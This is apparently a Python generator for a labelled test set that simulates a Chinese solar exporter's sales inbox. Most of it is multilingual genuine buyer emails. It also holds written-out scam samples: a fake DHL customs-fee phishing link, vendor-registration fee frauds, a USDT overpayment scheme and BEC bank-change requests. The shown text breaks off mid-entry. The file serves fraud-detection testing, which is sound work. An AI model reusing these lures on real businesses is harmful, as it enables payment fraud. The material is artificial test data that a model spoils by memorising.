"""The probe's eighth part: the texts (make_eighth.py writes the .eml files, chat.jsonl and labels.toml).
Written BLIND (before reading the rules, checks or language data; of earlier parts only the generators'
layout was read): what a solar lighting exporter's sales inbox (sales@hongyu-solar.example, Zhongshan,
UTC+8) gets on 1-2 December 2026. Genuine buyers in many languages with real-shaped provider headers and
messy real traits (forwarded threads, signatures with phone numbers, HTML-only bodies, genuine PO / RFQ
attachments, price-list requests from real distributors, buyers who pay their own agent / inspector);
ordinary mail; 2025-2026 fraud (crypto, fake customs / logistics fees, vendor-registration fees, BEC bank
changes, QR codes, e-signature lures, polite AI-written spy inquiries, sample fees to "our agent"); chat lines.
"""

from __future__ import annotations

MAILS: dict[str, dict] = {}


def mail(name: str, **m) -> None:
    MAILS[name] = m


PDF = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
XLSX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00xl/workbook.xml"

# --- genuine buyers ---------------------------------------------------------------------------------

mail("g8-es-co-gmail-medellin.eml", provider="gmail", date="2026-12-01 08:41:10", offset="-0500",
     **{"from": "Andrés Felipe Restrepo <af.restrepo.ingenieria@gmail.com>"},
     subject="Solicitud de cotización - luminarias solares 100W",
     body="""Buenos días,

Soy ingeniero contratista en Medellín. Tenemos un proyecto de alumbrado para una vereda en Antioquia y
necesito precio para:

- 220 luminarias solares todo-en-uno 100 W, batería LiFePO4, con sensor de movimiento
- 220 postes no, esos los compramos aquí

Precio FOB Shenzhen y CIF Buenaventura. ¿Cuántas horas de autonomía dan con 3 días nublados?
Pago 30 % anticipo y 70 % contra copia del BL.

Cordialmente,
Andrés F. Restrepo
Restrepo Ingeniería Eléctrica S.A.S.
Cel. +57 300 555 4182
""", class_="genuine", lang="es", kind="inquiry", signals="full")

mail("g8-pt-br-outlook-recife.eml", provider="outlook", region="brazil", accept_lang="pt-BR",
     date="2026-12-01 10:12:55", offset="-0300",
     **{"from": "Marcos Albuquerque <marcos.albuquerque81@hotmail.com>"},
     subject="RE: Orçamento refletor solar 200W",
     body="""Boa tarde Sra. Lin,

Obrigado pelo retorno rápido. Conversei com meu sócio e vamos fechar o primeiro pedido:
150 refletores solares 200 W (modelo HY-FL200) e 80 de 300 W.

Pode mandar a proforma com frete CIF Suape? O pagamento vai ser 30% antecipado por transferência.

Abraço,
Marcos Albuquerque
Albuquerque Iluminação - Recife/PE
(81) 9 5555-2210

________________________________
De: Lin Ying <sales@hongyu-solar.example>
Enviado: segunda-feira, 30 de novembro de 2026 17:20
Para: Marcos Albuquerque
Assunto: Orçamento refletor solar 200W

Dear Marcos, please find our quotation attached. HY-FL200: USD 23.50 FOB Shenzhen, MOQ 50 pcs.
""", class_="genuine", lang="pt", kind="inquiry", signals="full")

mail("g8-fr-gmail-abidjan-rfq-pdf.eml", provider="gmail", date="2026-12-01 09:03:27", offset="+0000",
     **{"from": "Koffi Yao <koffi.yao.solaire@gmail.com>"},
     subject="Demande de prix - lampadaires solaires (RFQ en pièce jointe)",
     body="""Bonjour,

Nous sommes une PME d'installation photovoltaïque à Abidjan (Cocody). Veuillez trouver en pièce jointe
notre demande de prix pour un marché communal : 300 lampadaires solaires 60 W et 40 kits solaires
domestiques.

Merci de nous faire une offre CIF Abidjan avec délai de livraison et garantie batterie.

Cordialement,
Koffi Yao
Directeur technique - SolarCI SARL
Tél : +225 07 55 51 22 30
""", attach=[("RFQ_Mairie_Bingerville.pdf", "application/pdf", PDF)],
     class_="genuine", lang="fr", kind="inquiry", signals="full")

mail("g8-de-gmx-stuttgart.eml", provider="gmx", client_ip="84.150.33.201",
     date="2026-12-01 08:15:44", offset="+0100",
     **{"from": "Thomas Kehrer <t.kehrer@gmx.de>"},
     subject="Anfrage Solar-Wegeleuchten 20 W",
     body="""Sehr geehrte Damen und Herren,

für einen Kunden (Campingplatz am Bodensee) suche ich 64 Solar-Wegeleuchten 20 W mit Bewegungsmelder,
warmweiß 3000 K, IP65. Lieferung DAP Stuttgart.

Können Sie mir ein Angebot mit Datenblatt schicken? Gibt es eine CE-Konformitätserklärung?

Mit freundlichen Grüßen
Thomas Kehrer
Elektro Kehrer, Filderstadt
Tel. 0711 5550 3381
""", class_="genuine", lang="de", kind="inquiry", signals="full")

mail("g8-de-webde-short.eml", provider="gmx", client_ip="79.200.14.91",
     date="2026-12-01 19:40:02", offset="+0100",
     **{"from": "Sabine Vogt <sabine.vogt@web.de>"},
     subject="Preis Solarleuchte",
     body="""Hallo, was kostet die HY-SL30 bei 20 Stück nach Hannover? Gruß S. Vogt
""", class_="genuine", lang="de", kind="inquiry")

mail("g8-it-gmail-bari.eml", provider="gmail", date="2026-12-01 10:25:31", offset="+0100",
     **{"from": "Giuseppe Lorusso <lorusso.impianti@gmail.com>"},
     subject="Richiesta offerta lampioni solari",
     body="""Buongiorno,

sono un installatore di Bari. Mi servirebbe un'offerta per 45 lampioni solari 80 W con pannello
separato e palo da 6 m (solo testa lampada e pannello, il palo lo prendo in Italia).

Resa DAP Bari. Pagamento con bonifico, 30% all'ordine.

Grazie, saluti
Giuseppe Lorusso
Lorusso Impianti Elettrici
cell. 347 555 8812
""", class_="genuine", lang="it", kind="inquiry", signals="full")

mail("g8-ru-yandex-krasnodar.eml", provider="yandex", client_ip="95.153.130.44",
     date="2026-12-01 11:32:08", offset="+0300",
     **{"from": "Игорь Саенко <saenko.igor@yandex.ru>"},
     subject="Запрос цены: уличные солнечные светильники",
     body="""Здравствуйте!

Наша компания занимается благоустройством в Краснодарском крае. Интересуют уличные светильники на
солнечных батареях 60 Вт, 500 шт., с доставкой до Новороссийска.

Просим прислать коммерческое предложение, сертификаты и сроки производства. Оплата через банк в юанях.

С уважением,
Игорь Саенко
ООО «ЮгСветСтрой»
+7 918 555-40-21
""", class_="genuine", lang="ru", kind="inquiry", signals="full")

mail("g8-uk-gmail-lviv.eml", provider="gmail", date="2026-12-01 09:50:14", offset="+0200",
     **{"from": "Оксана Гнатюк <oksana.hnatiuk.energo@gmail.com>"},
     subject="Запит: сонячні прожектори та павербанки",
     body="""Добрий день!

Ми волонтерська організація зі Львова, купуємо автономне освітлення для укриттів. Потрібно:
- 200 сонячних прожекторів 100 Вт
- 50 портативних станцій 1000 Вт·год

Доставка до Польщі (Жешув), DAP. Надішліть, будь ласка, ціни та терміни.

З повагою,
Оксана Гнатюк
+380 67 555 1934
""", class_="genuine", lang="uk", kind="inquiry", signals="full")

mail("g8-pl-o365-wroclaw-po.eml", provider="o365", region="eurprd", accept_lang="pl-PL",
     date="2026-12-01 08:05:50", offset="+0100",
     **{"from": "Katarzyna Wójcik <k.wojcik@luxpol-oswietlenie.pl>"},
     subject="Zamówienie PO-2026-318 - lampy solarne",
     body="""Dzień dobry Pani Lin,

w załączniku przesyłam nasze zamówienie PO-2026-318 na 120 szt. HY-SL60 i 60 szt. HY-FL100, zgodnie
z ofertą z 24.11. Proszę o potwierdzenie i fakturę proforma. Płatność jak ostatnio: 30% przedpłaty,
reszta przed wysyłką. Dostawa FOB Shenzhen, nasz spedytor to Rhenus.

Pozdrawiam
Katarzyna Wójcik
Dział Zakupów | Luxpol Oświetlenie Sp. z o.o.
tel. +48 71 555 20 44
""", attach=[("PO-2026-318.pdf", "application/pdf", PDF)],
     class_="genuine", lang="pl", kind="inquiry", signals="full")

mail("g8-tr-gmail-antalya.eml", provider="gmail", date="2026-12-01 11:05:02", offset="+0300",
     **{"from": "Murat Özdemir <murat.ozdemir.enerji@gmail.com>"},
     subject="Solar aydınlatma fiyat talebi",
     body="""Merhaba,

Antalya'da otel projeleri için bahçe aydınlatması yapıyoruz. 300 adet 10 W solar bahçe armatürü ve
40 adet 100 W solar projektör için fiyat rica ediyorum. CIF Mersin olarak teklif verebilir misiniz?

İyi çalışmalar,
Murat Özdemir
Özdemir Enerji Ltd. Şti.
+90 532 555 71 08
""", class_="genuine", lang="tr", kind="inquiry", signals="full")

mail("g8-ar-ae-o365-dubai.eml", provider="o365", region="eurprd", accept_lang="ar-AE",
     date="2026-12-01 10:44:19", offset="+0400",
     **{"from": "Khalid Al Mansoori <khalid@almansoori-lighting.ae>"},
     subject="طلب عرض سعر - كشافات شمسية",
     body="""السلام عليكم،

نرجو تزويدنا بعرض سعر لـ 400 كشاف شمسي 200 واط و 150 عمود إنارة شمسي متكامل 120 واط، التسليم
CIF ميناء جبل علي. الدفع عن طريق اعتماد مستندي.

مع التحية،
خالد المنصوري
مدير المشتريات - المنصوري للإنارة ذ.م.م
+971 4 555 3120
""", class_="genuine", lang="ar", kind="inquiry", signals="full")

mail("g8-ar-eg-gmail-short.eml", provider="gmail", date="2026-12-01 12:10:44", offset="+0200",
     **{"from": "محمد حسن <m.hassan.solar.eg@gmail.com>"},
     subject="سعر",
     body="""مساء الخير، كم سعر الكشاف الشمسي 100 واط لكمية 50 قطعة توصيل الإسكندرية؟
""", class_="genuine", lang="ar", kind="inquiry")

mail("g8-id-gmail-surabaya.eml", provider="gmail", date="2026-12-01 09:12:40", offset="+0700",
     **{"from": "Budi Santoso <budi.santoso.led@gmail.com>"},
     subject="Permintaan harga lampu PJU tenaga surya",
     body="""Selamat pagi,

Kami kontraktor di Surabaya, butuh penawaran harga untuk 250 unit lampu PJU tenaga surya 80 watt
all in one, pengiriman CIF Tanjung Perak. Mohon info garansi baterai dan waktu produksi.

Terima kasih,
Budi Santoso
CV Terang Abadi
HP/WA 0812 5550 3311
""", class_="genuine", lang="id", kind="inquiry", signals="full")

mail("g8-vi-gmail-danang.eml", provider="gmail", date="2026-12-01 08:30:05", offset="+0700",
     **{"from": "Nguyễn Văn Hải <hai.nguyen.solar@gmail.com>"},
     subject="Hỏi giá đèn năng lượng mặt trời",
     body="""Chào chị,

Công ty em ở Đà Nẵng cần báo giá 500 bộ đèn đường năng lượng mặt trời 60W, giao CIF cảng Đà Nẵng.
Chị gửi giúp em catalogue và báo giá nhé. Thanh toán T/T.

Cảm ơn chị,
Hải - 0905 555 218
""", class_="genuine", lang="vi", kind="inquiry", signals="full")

mail("g8-th-gmail-chiangmai.eml", provider="gmail", date="2026-12-01 10:02:33", offset="+0700",
     **{"from": "Somchai Wongsuwan <somchai.w.solar@gmail.com>"},
     subject="สอบถามราคาไฟถนนโซล่าเซลล์",
     body="""สวัสดีครับ

บริษัทของเราอยู่ที่เชียงใหม่ ต้องการใบเสนอราคาไฟถนนโซล่าเซลล์ 100 วัตต์ จำนวน 180 ชุด ส่ง CIF
ท่าเรือแหลมฉบัง ขอแคตตาล็อกและระยะเวลาการผลิตด้วยครับ

ขอบคุณครับ
สมชาย วงศ์สุวรรณ
โทร 081 555 2734
""", class_="genuine", lang="th", kind="inquiry", signals="full")

mail("g8-ko-naver-daegu.eml", provider="naver", client_ip="175.223.18.40",
     date="2026-12-01 11:20:10", offset="+0900",
     **{"from": "박정훈 <jh.park.light@naver.com>"},
     subject="태양광 가로등 견적 요청",
     body="""안녕하세요,

대구에 있는 조명 시공업체입니다. 태양광 가로등 60W 120대 견적 부탁드립니다. 부산항 CIF 조건으로
부탁드리며, KC 인증 가능 여부도 알려주세요.

감사합니다.
박정훈 드림
010-5550-7742
""", class_="genuine", lang="ko", kind="inquiry", signals="full")

mail("g8-ja-workspace-fukuoka.eml", provider="workspace", date="2026-12-01 10:48:51", offset="+0900",
     **{"from": "田中 誠 <m.tanaka@kyushu-akari.co.jp>"},
     subject="ソーラー街路灯のお見積り依頼",
     body="""ホンユー・ソーラー ご担当者様

九州あかり株式会社の田中と申します。
自治体向けにソーラー街路灯（40W、一体型）を80台検討しております。
CIF博多港でのお見積りと、バッテリーの保証期間をお知らせいただけますでしょうか。

よろしくお願いいたします。

田中 誠
九州あかり株式会社 営業部
TEL 092-555-3381
""", class_="genuine", lang="ja", kind="inquiry", signals="full")

mail("g8-zh-tw-gmail-taichung.eml", provider="gmail", date="2026-12-01 09:25:40", offset="+0800",
     **{"from": "陳建宏 <chen.chienhung.led@gmail.com>"},
     subject="詢價：太陽能庭園燈",
     body="""您好，

我們是台中的燈具經銷商，想詢問太陽能庭園燈 15W 共 600 組的報價，CIF 台中港。
請提供規格書與交期，謝謝。

陳建宏
明亮照明有限公司
0922-555-318
""", class_="genuine", lang="zh", kind="inquiry", signals="full")

mail("g8-zh-163-distributor.eml", provider="163", client_ip="183.14.72.90",
     date="2026-12-01 14:05:17", offset="+0800",
     **{"from": "王磊 <wanglei_lighting@163.com>"},
     subject="太阳能路灯 60W 报价",
     body="""林经理你好，

我是东莞的经销商王磊，客户要 60W 一体化太阳能路灯 300 套，送到东莞仓库，含税价多少？
付款可以先付三成定金。麻烦尽快回复，谢谢。

王磊 138 0555 7712
""", class_="genuine", lang="zh", kind="inquiry", signals="full")

mail("g8-sw-gmail-nairobi.eml", provider="gmail", date="2026-12-01 09:40:12", offset="+0300",
     **{"from": "Wanjiru Kamau <wanjiru.kamau.solar@gmail.com>"},
     subject="Ombi la bei - taa za sola",
     body="""Habari,

Tunahitaji bei ya taa za barabarani za sola 60W, vipande 150, CIF Mombasa. Pia tunataka kujua muda wa
uzalishaji na dhamana ya betri.

Asante,
Wanjiru Kamau
Kamau Solar Solutions, Nairobi
+254 722 555 381
""", class_="genuine", lang="sw", kind="inquiry", signals="full")

mail("g8-en-ng-gmail-forwarded.eml", provider="gmail", date="2026-12-01 10:55:09", offset="+0100",
     **{"from": "Chinedu Okafor <chinedu.okafor.power@gmail.com>"},
     subject="Fwd: Solar street light project - Enugu",
     body="""Hello Ms Lin,

See below the spec from our client. Please quote 320 units of the 100W all-in-one, CIF Lagos (Apapa).
We will pay 30% deposit by TT and balance against BL copy. Our clearing agent in Lagos handles duty.

Thanks,
Chinedu Okafor
Okafor Power Systems Ltd, Enugu
+234 803 555 2190

---------- Forwarded message ---------
From: Engr. Ifeoma Nwosu <ifeoma.nwosu@enugu-works.example>
Date: Mon, 30 Nov 2026 at 14:12
Subject: Solar street light project - Enugu
To: Chinedu Okafor <chinedu.okafor.power@gmail.com>

Chinedu, the ministry approved 320 poles. Luminaire 100W minimum, 3 nights autonomy, IP66.
""", class_="genuine", lang="en", kind="inquiry", signals="full")

mail("g8-en-us-workspace-htmlonly.eml", provider="workspace", date="2026-12-01 11:14:06", offset="-0600",
     **{"from": "Megan Fischer <megan@prairie-outdoor.com>"},
     subject="Quote request - solar flood lights",
     body="(html only)",
     html_only="""<html><body><div style="font-family:Arial">
<p>Hi there,</p>
<p>We are an outdoor lighting retailer in Omaha, Nebraska. Could you quote <b>1,200 pcs</b> of your
100W solar flood light (HY-FL100) and <b>800 pcs</b> of the 30W wall light, DDP to Omaha, NE 68127?</p>
<p>We need UL or ETL listing for the batteries. Payment: 30% deposit, balance before shipment.</p>
<p>Best,<br>Megan Fischer<br>Purchasing Manager | Prairie Outdoor Supply<br>(402) 555-0148</p>
</div></body></html>""", class_="genuine", lang="en", kind="inquiry", signals="full")

mail("g8-en-au-o365-thread.eml", provider="o365", region="apcprd", accept_lang="en-AU",
     date="2026-12-02 07:30:44", offset="+1100",
     **{"from": "Liam O'Brien <liam.obrien@coastlight.com.au>"},
     subject="RE: RE: Sample HY-SL40 - feedback and next order",
     body="""Hi Lin,

Samples arrived Friday, the team is happy with the light output. A few notes:
1) The remote is flimsy, can you upgrade it?
2) Please laser our logo on the housing.

We'd like to place 400 units for the Gold Coast council job, FOB Shenzhen, our forwarder is DHL Global
Forwarding. Please send the PI. The sample charge you invoiced can be deducted from this order as agreed.

Cheers,
Liam O'Brien
Coastlight Pty Ltd | 0412 555 903

From: Lin Ying <sales@hongyu-solar.example>
Sent: Tuesday, 24 November 2026 4:02 PM
Subject: RE: Sample HY-SL40

Hi Liam, the samples left today by DHL, tracking 55 1234 5678.
""", class_="genuine", lang="en", kind="inquiry", signals="full")

mail("g8-en-in-gmail-pricelist.eml", provider="gmail", date="2026-12-01 12:35:20", offset="+0530",
     **{"from": "Rajesh Nair <rajesh.nair.solartech@gmail.com>"},
     subject="Distributor inquiry - price list request",
     body="""Dear Sir/Madam,

We are SolarTech Distributors, Kochi, Kerala (GST 32AAXFS5551R1Z4), supplying solar lighting to
panchayats and dealers across Kerala for 9 years. We buy around 3,000 street lights a year.

Kindly share your price list for the street light and flood light series with MOQ, and your terms for
a distributor. If prices suit, our first order will be about 500 units of 40W, CIF Cochin.

Regards,
Rajesh Nair
Managing Partner, SolarTech Distributors
+91 98470 55512
""", class_="genuine", lang="en", kind="inquiry", signals="full")

mail("g8-en-gmail-own-agent-inspection.eml", provider="gmail", date="2026-12-01 09:58:11", offset="+0000",
     **{"from": "David Mensah <david.mensah.gh@gmail.com>"},
     subject="Order 200 pcs 60W - inspection and samples",
     body="""Hello Lin,

We confirm the order for 200 pcs of the 60W all-in-one, CIF Tema. Before shipment our own agent in
Guangzhou will inspect the goods. The inspection fee is paid to our own agent by us, you pay nothing for it.
The sample charge of USD 85 you asked for can be deducted from the first invoice as you proposed.

Please send the PI.

David Mensah
Mensah Electricals, Accra | +233 24 555 6120
""", class_="genuine", lang="en", kind="inquiry", signals="full")

mail("g8-en-o365-inspection-deducted.eml", provider="o365", region="eurprd", accept_lang="en-GB",
     date="2026-12-01 10:20:33", offset="+0000",
     **{"from": "Helen Carter <h.carter@brightway-lighting.co.uk>"},
     subject="PO 7741 - pre-shipment inspection",
     body="""Dear Lin,

For PO 7741 (350 x HY-SL60, FOB Shenzhen) we will use our own agent, Asia QC Services, for the
pre-shipment inspection. The inspection fee (USD 290) is paid to our own agent and deducted from the
first invoice's balance only if the lot fails and a re-inspection is needed; otherwise it is our cost.

Kind regards,
Helen Carter
Buyer, Brightway Lighting Ltd | +44 161 555 0193
""", class_="genuine", lang="en", kind="inquiry", signals="full")

mail("g8-es-gmail-agente-propio.eml", provider="gmail", date="2026-12-01 11:42:08", offset="-0300",
     **{"from": "Lucía Benítez <lucia.benitez.importaciones@gmail.com>"},
     subject="Pedido 150 reflectores - inspección",
     body="""Hola Lin,

Confirmamos 150 reflectores solares de 200 W, CIF Buenos Aires. La inspección la hace nuestro propio
agente en Shenzhen y el costo de la inspección lo pagamos nosotros a nuestro agente. El costo de la
muestra que ya pagamos se descuenta de la primera factura, como acordamos.

Saludos,
Lucía Benítez
Benítez Importaciones SRL - +54 11 5555 2871
""", class_="genuine", lang="es", kind="inquiry", signals="full")

mail("g8-fr-outlook-agent-inspection.eml", provider="outlook", region="eurprd", accept_lang="fr-FR",
     date="2026-12-01 09:33:21", offset="+0100",
     **{"from": "Pierre Lefèvre <pierre.lefevre.elec@outlook.fr>"},
     subject="Commande 90 lampadaires - contrôle qualité",
     body="""Bonjour Mme Lin,

Nous validons la commande de 90 lampadaires HY-SL80, FOB Shenzhen. Le contrôle avant expédition sera
fait par notre propre agent ; les frais d'inspection (environ 250 USD) sont payés par nous à notre agent.
Les frais d'échantillon seront déduits de la première facture, comme convenu.

Cordialement,
Pierre Lefèvre
Lefèvre Électricité - 06 55 51 22 87
""", class_="genuine", lang="fr", kind="inquiry", signals="full")

mail("g8-pt-gmail-agente-inspecao.eml", provider="gmail", date="2026-12-01 13:02:45", offset="+0100",
     **{"from": "Rui Carvalho <rui.carvalho.iluminacao@gmail.com>"},
     subject="Encomenda 100 candeeiros solares",
     body="""Boa tarde,

Confirmo a encomenda de 100 candeeiros solares 40 W, CIF Leixões. A inspeção será feita pelo nosso
próprio agente na China e a taxa de inspeção é paga por nós ao nosso agente. O valor da amostra pode
ser descontado da primeira fatura.

Cumprimentos,
Rui Carvalho - Carvalho Iluminação Lda, Porto - 912 555 370
""", class_="genuine", lang="pt", kind="inquiry", signals="full")

mail("g8-de-gmail-eigener-agent.eml", provider="gmail", date="2026-12-01 08:52:10", offset="+0100",
     **{"from": "Markus Brandt <markus.brandt.licht@gmail.com>"},
     subject="Bestellung 250 Solarleuchten - Inspektion",
     body="""Hallo Frau Lin,

wir bestellen 250 Stück HY-SL40, FOB Shenzhen. Die Vorversandkontrolle macht unser eigener Agent in
Shenzhen; die Inspektionsgebühr zahlen wir selbst an unseren Agenten. Die Musterkosten werden wie
besprochen mit der ersten Rechnung verrechnet.

Viele Grüße
Markus Brandt, Brandt Lichttechnik, Tel. 0170 5550 882
""", class_="genuine", lang="de", kind="inquiry", signals="full")

mail("g8-en-gmail-usdt-option.eml", provider="gmail", date="2026-12-01 14:20:51", offset="+0300",
     **{"from": "Yusuf Abdi <yusuf.abdi.trading@gmail.com>"},
     subject="Quotation 100 solar home kits - Mogadishu",
     body="""Hello,

We need 100 solar home systems (panel 100W + battery + 4 lamps + phone charger), CIF Mogadishu port.
Please quote. We pay by bank TT through Dubai; if your company also accepts USDT we can use it, but
bank is fine.

Best regards,
Yusuf Abdi
Abdi General Trading, Mogadishu | +252 61 555 2044
""", class_="genuine", lang="en", kind="inquiry", signals="full")

mail("g8-nl-outlook-utrecht.eml", provider="outlook", region="eurprd", accept_lang="nl-NL",
     date="2026-12-01 09:10:29", offset="+0100",
     **{"from": "Jeroen de Vries <jeroen.devries.tuin@outlook.com>"},
     subject="Offerte tuinverlichting op zonne-energie",
     body="""Goedemorgen,

Wij zijn een hoveniersbedrijf in Utrecht en zoeken 400 stuks solar tuinlampen (10 W) en 100 solar
wandlampen. Graag een offerte DAP Utrecht met levertijd.

Met vriendelijke groet,
Jeroen de Vries
De Vries Tuinen | 06 5550 2817
""", class_="genuine", lang="nl", kind="inquiry", signals="full")

mail("g8-ro-yahoo-cluj.eml", provider="yahoo", yregion="ir2", date="2026-12-01 10:36:40", offset="+0200",
     **{"from": "Andrei Popescu <andrei_popescu_electric@yahoo.com>"},
     subject="Cerere oferta lampi solare stradale",
     body="""Bună ziua,

Vă rog să-mi trimiteți o ofertă pentru 70 de lămpi solare stradale de 60 W, livrare CIF Constanța.
Plata prin transfer bancar, 30% avans.

Mulțumesc,
Andrei Popescu
SC Electric Cluj SRL, 0744 555 219
""", class_="genuine", lang="ro", kind="inquiry", signals="full")

mail("g8-he-gmail-haifa.eml", provider="gmail", date="2026-12-01 10:15:18", offset="+0200",
     **{"from": "Avi Cohen <avi.cohen.solar@gmail.com>"},
     subject="בקשת הצעת מחיר - פנסי רחוב סולאריים",
     body="""שלום,

אנחנו חברת התקנות בחיפה. נבקש הצעת מחיר ל-90 פנסי רחוב סולאריים 80 וואט, CIF נמל חיפה.
נא לצרף מפרט טכני וזמן אספקה.

תודה,
אבי כהן
כהן אנרגיה בע"מ | 052-555-3310
""", class_="genuine", lang="he", kind="inquiry", signals="full")

mail("g8-el-gmail-thessaloniki.eml", provider="gmail", date="2026-12-01 11:50:02", offset="+0200",
     **{"from": "Nikos Papadopoulos <nikos.papadopoulos.fos@gmail.com>"},
     subject="Ζήτηση προσφοράς - ηλιακά φωτιστικά",
     body="""Καλημέρα σας,

Θα θέλαμε προσφορά για 150 ηλιακά φωτιστικά δρόμου 60 W, παράδοση CIF Θεσσαλονίκη.
Παρακαλώ στείλτε και τεχνικό φυλλάδιο.

Ευχαριστώ,
Νίκος Παπαδόπουλος
Φως Βορρά ΕΠΕ | 6944 555 210
""", class_="genuine", lang="el", kind="inquiry", signals="full")

mail("g8-cs-gmail-short.eml", provider="gmail", date="2026-12-01 13:22:09", offset="+0100",
     **{"from": "Petr Novák <petr.novak.elektro@gmail.com>"},
     subject="Cena solární lampy",
     body="""Dobrý den, kolik stojí 30 ks solárních lamp 40 W s dodáním do Brna? Děkuji, Petr Novák
""", class_="genuine", lang="cs", kind="inquiry")

mail("g8-en-ph-gmail-agent-samples.eml", provider="gmail", date="2026-12-01 15:05:44", offset="+0800",
     **{"from": "Maria Santos <maria.santos.ecolights@gmail.com>"},
     subject="Samples via our Yiwu agent",
     body="""Hi Lin,

Thank you for the quotation. Before the 300 pcs order (CIF Manila) we want 2 samples of the 60W.
Please hand them to our agent in Yiwu, Mr. Zhou (+86 139 5550 2218); we pay you the sample cost by
PayPal and we pay our agent's courier fee ourselves.

Regards,
Maria Santos
EcoLights Trading, Quezon City | +63 917 555 4410
""", class_="genuine", lang="en", kind="inquiry", signals="full")

mail("g8-en-us-gmail-payment-methods.eml", provider="gmail", date="2026-12-01 16:40:30", offset="-0500",
     **{"from": "Carlos Rivera <crivera.landscaping@gmail.com>"},
     subject="Solar path lights - payment question",
     body="""Hi,

I run a small landscaping company in Orlando, FL. I'd like 60 of your solar path lights (HY-PL05) for a
client's driveway, shipped to Orlando 32819. Which payment methods do you accept: wire, PayPal, or a
credit card through Alibaba Trade Assurance? First time importing, so I'd rather use Trade Assurance.

Thanks,
Carlos Rivera
Rivera Landscaping LLC | (407) 555-0172
""", class_="genuine", lang="en", kind="inquiry", signals="full")

# --- ordinary (ham) -----------------------------------------------------------------------------------

mail("h8-en-ses-maersk-notice.eml", provider="ses", ses_region="eu-west-1",
     date="2026-12-01 06:15:00", offset="+0000",
     **{"from": "Maersk <noreply@notifications.maersk.com>"},
     subject="Vessel schedule change - booking 254887120",
     body="""Dear customer,

Please note that vessel MAERSK SEMBAWANG voyage 448W has a revised ETD Yantian of 06 Dec 2026
(previously 04 Dec). Your booking 254887120 remains confirmed. Cargo cut-off is now 04 Dec 2026 12:00.

You can view your bookings by signing in to maersk.com.

Maersk Customer Service
""", class_="genuine", lang="en", kind="notice")

mail("h8-en-ses-bank-credit.eml", provider="ses", ses_region="ap-southeast-1",
     date="2026-12-01 02:30:00", offset="+0000",
     **{"from": "HSBC HK <alerts@notification.hsbc.com.hk>"},
     subject="Incoming payment credited to your account",
     body="""Dear Customer,

An inward remittance of USD 12,440.00 from COASTLIGHT PTY LTD has been credited to your account ending
4471 on 01 Dec 2026.

This is an automated message. Please do not reply.
""", class_="genuine", lang="en", kind="notice")

mail("h8-zh-qq-colleague.eml", provider="qq", client_ip="113.116.40.22",
     date="2026-12-01 15:10:00", offset="+0800",
     **{"from": "张敏 <2846110375@qq.com>"},
     subject="明天的验货安排",
     body="""林颖，

明天上午客户的验货员来厂里，HY-SL60 那批 350 台请提前放在二号仓，我下午把装箱单发给你。

张敏
""", class_="genuine", lang="zh", kind="colleague")

# --- scam / phishing / spy --------------------------------------------------------------------------

mail("x8-en-vps-customs-release-fee.eml", provider="vps", client_ip="91.215.85.140", vps_host="mail.dhl-parcelhold.com",
     date="2026-12-01 03:11:40", offset="+0000",
     **{"from": "DHL Express Customs <clearance@dhl-parcelhold.com>"},
     subject="Import duty unpaid - shipment 4471920553 on hold",
     body="""Dear Customer,

Your inbound shipment 4471920553 is on hold at Hong Kong customs because the import duty and
clearance charges (HKD 42.60) have not been paid. If the charges are not settled within 48 hours the
parcel will be returned to the sender.

Pay now: https://dhl-parcelhold.com/pay/4471920553

DHL Express Customs Team
""", class_="phishing", lang="en", kind="parcel-fee")

mail("x8-en-gmail-vendor-registration.eml", provider="gmail", date="2026-12-01 10:22:18", offset="+0100",
     **{"from": "Engr. Abubakar Sani <abubakar.sani.procurement@gmail.com>"},
     subject="Invitation to supply 5,000 units solar street lights - Federal Ministry of Power",
     body="""Dear Sir/Madam,

The Federal Ministry of Power has approved the supply of 5,000 units of 100W solar street lights for the
Rural Electrification Programme 2027. Your company was recommended to us.

To be listed as an approved vendor, your company must complete the vendor registration and obtain the
Certificate of Compliance from our accredited consultant, Barr. Chukwuma & Associates. The vendor
registration fee of USD 1,850 is to be paid by your company directly to the consultant. Once registered,
the Local Purchase Order and 40% advance payment will be released to you.

Kindly reply with your company profile so that we proceed.

Engr. Abubakar Sani
Director of Procurement
""", class_="scam", lang="en", kind="vendor-registration-fee")

mail("x8-fr-gmail-frais-agrement.eml", provider="gmail", date="2026-12-01 11:40:22", offset="+0100",
     **{"from": "Service des Marchés Publics <marches.publics.energie.cm@gmail.com>"},
     subject="Marché public - fourniture de 2 000 lampadaires solaires",
     body="""Madame, Monsieur,

Suite à l'appel d'offres n° 0412/MINEE/2026, votre société a été retenue pour la fourniture de 2 000
lampadaires solaires. Avant la signature du contrat, votre société doit obtenir l'agrément fournisseur
auprès de notre cabinet partenaire. Les frais d'agrément s'élèvent à 1 200 000 FCFA et sont à la charge
du fournisseur. Le bon de commande vous sera transmis dès réception du paiement.

Veuillez nous contacter au +237 6 55 55 21 90 pour les modalités.

Le Chef du Service des Marchés
""", class_="scam", lang="fr", kind="vendor-registration-fee")

mail("x8-es-outlook-usdt-sobrante.eml", provider="outlook", region="namprd", accept_lang="es-ES",
     date="2026-12-01 17:02:11", offset="+0000",
     **{"from": "Javier Montes <javier.montes.import@outlook.com>"},
     subject="Compra inmediata - pago en USDT",
     body="""Hola,

Quiero comprar todos los reflectores solares que tengan en stock, cualquier modelo. Pago inmediato en
USDT (TRC20). Envíeme la dirección de su billetera y la cantidad disponible. Mi transitario recogerá
la mercancía en su fábrica.

Si por error envío de más, me devuelven la diferencia a la billetera de mi transitario.

Javier
""", class_="scam", lang="es", kind="crypto")

mail("x8-en-o365-bec-supplier-bank.eml", provider="o365", region="apcprd",
     date="2026-12-01 05:48:02", offset="+0000",
     **{"from": "Accounts Dept <accounts@cnbattery-cells.com>"},
     subject="Updated remittance details - Invoice CB-26-1187",
     body="""Dear Hongyu Solar Accounts,

Kindly note that our banking details have been updated following our annual audit. Please arrange
payment of invoice CB-26-1187 (USD 38,450.00, LiFePO4 cells) to our new account below and do not remit
to the previous account, which is now under review.

Beneficiary: CN Battery Cells Trading Ltd
Bank: DBS Bank (Hong Kong) Limited
Account: 7881 2204 5516
SWIFT: DHBKHKHH

Please confirm once payment is scheduled; it is urgent as the cells for your next batch are ready.

Regards,
Accounts Department
""", class_="scam", lang="en", kind="bec-bank-change")

mail("x8-de-vps-neue-bankverbindung.eml", provider="vps", client_ip="185.100.87.41", vps_host="mail.solartech-gmbh.de.com",
